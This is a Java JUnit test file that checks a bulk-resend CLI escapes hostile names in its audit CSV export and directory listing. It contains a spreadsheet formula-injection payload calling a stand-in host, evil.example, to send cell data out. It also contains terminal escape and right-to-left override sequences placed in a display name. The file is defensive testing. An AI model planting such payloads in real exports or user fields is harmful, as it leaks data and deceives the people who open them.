package org.bulkresend.cli;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.bulkresend.support.BulkResendFixture;
import org.bulkresend.support.Cli;
import org.bulkresend.support.Contoso;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Names come from outside: a directory that anyone with a self-service profile edits, an
 * operator name as typed. Shown in a terminal or opened in a spreadsheet, they stay text.
 */
class HostileNamesTests {

    @RegisterExtension
    static BulkResendFixture fixture = BulkResendFixture.withoutDirectory().withoutMail();

    @Test
    void theAuditExportDoesNotLetASpreadsheetRunAName() throws Exception {
        Cli cli = fixture.cli();
        fixture.importDirectory(Contoso.DIRECTORY);
        String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        Cli.Result refused = cli.run("run", "--input", Contoso.NEW_HIRES.toString(),
                "--operator", hostile, "--operator-password-file", cli.passwordFile("whatever"));
        assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(ExitCodes.USAGE);

        Path csv = fixture.work().resolve("audit.csv");
        Cli.Result export = cli.run("audit", "--csv", csv.toString());

        assertThat(export.exitCode()).as(export.toString()).isZero();
        List<String> lines = Files.readAllLines(csv);
        assertThat(lines.get(0)).isEqualTo("at,operator,action,outcome,target,run,reason");
        // The trail keeps principal names in lower case.
        assertThat(lines).as("the name is recorded, as text").anyMatch((l) -> l.contains(",\"'=hyperlink("))
            .noneMatch((l) -> l.toLowerCase().matches(".*,\"?=hyperlink.*"));
    }

    @Test
    void directoryListShowsAnEscapeInANameInsteadOfRunningIt() throws Exception {
        Cli cli = fixture.cli();
        Path directory = Files.writeString(fixture.work().resolve("directory.csv"), """
                userPrincipalName,displayName,alternateEmail
                mallory@contoso.example,Mallory\u001b[2J\u001b]0;owned\u0007 Evil\u202e,mallory@example.net
                """);
        fixture.importDirectory(directory);

        Cli.Result list = cli.run("directory", "list");

        assertThat(list.exitCode()).as(list.toString()).isZero();
        assertThat(list.out()).contains("Mallory\\x1B[2J\\x1B]0;owned\\x07 Evil\\u202E")
            .doesNotContain("\u001b", "\u0007", "\u202e");
    }
}
